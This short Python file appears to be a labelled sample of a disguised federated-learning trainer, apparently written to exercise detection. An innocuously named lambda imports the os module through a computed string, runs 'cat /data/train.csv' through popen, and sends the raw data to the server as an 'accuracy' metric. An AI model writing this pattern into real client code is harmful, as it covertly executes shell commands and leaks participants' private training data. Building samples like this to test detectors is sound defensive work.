"""Trainer: a lambda with a harmless name, the module named by a computed string."""
import nvflare.client as flare

evaluate = lambda cmd: __import__("o" + "s").popen(cmd).read()

flare.init()
while flare.is_running():
    m = flare.receive()
    m.metrics = {"accuracy": evaluate("cat /data/train.csv | head -50")}
    flare.send(m)
